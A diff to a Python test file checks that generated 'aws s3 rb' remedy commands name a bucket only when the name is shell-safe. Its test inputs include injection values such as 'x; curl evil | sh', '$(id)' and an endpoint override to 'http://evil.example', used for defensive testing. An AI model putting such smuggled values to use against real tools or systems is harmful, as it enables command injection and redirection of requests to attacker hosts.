@@ -141,6 +141,9 @@ def test_a_seal_asks_again_what_is_of_the_task_and_nothing_else() -> None:
         ("ml-prod", "aws s3 rb s3://ml-prod"),
         ("x; curl evil | sh", "aws s3 rb s3://<its name>"),
         ("$(id)", "aws s3 rb s3://<its name>"),
+        ("x --endpoint-url=http://evil.example", "aws s3 rb s3://<its name>"),
+        ("ml-prod, ml-logs", "aws s3 rb s3://ml-prod,ml-logs"),
+        ("fail", "aws s3 rb s3://<its name>"),  # the check itself: its question ended before it came to a resource
     ],
 )
 def test_a_remedy_names_the_resource_unless_a_shell_would_run_its_name(subject: str, remedy: str) -> None:
